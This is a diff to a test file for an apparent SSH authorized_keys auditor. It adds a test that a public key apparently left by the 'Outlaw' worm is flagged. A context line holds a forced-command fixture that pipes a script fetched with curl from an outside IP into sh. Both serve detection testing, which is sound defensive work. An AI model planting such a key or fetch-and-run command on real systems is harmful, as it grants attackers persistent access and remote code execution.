@@ -66,6 +66,14 @@ test('one key in many accounts of the system lets somebody in', () => {
   ]);
 });
 
+test('a key that a worm is known to leave lets in, whatever its comment', () => {
+  const key =
+    'AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw==';
+  expect(openly({ '/root/.ssh/authorized_keys': `ssh-rsa ${key} admin@laptop\n` })).toMatchObject([
+    { value: { name: expect.stringContaining('Outlaw'), why: expect.arrayContaining(['lets-in']) } },
+  ]);
+});
+
 test('a command of a key that fetches and runs is told openly', () => {
   const line = `command="curl -s http://198.51.100.7/a.sh | sh" ${sshKeyText(1)}`;
   expect(openly({ '/root/.ssh/authorized_keys': line })).toMatchObject([
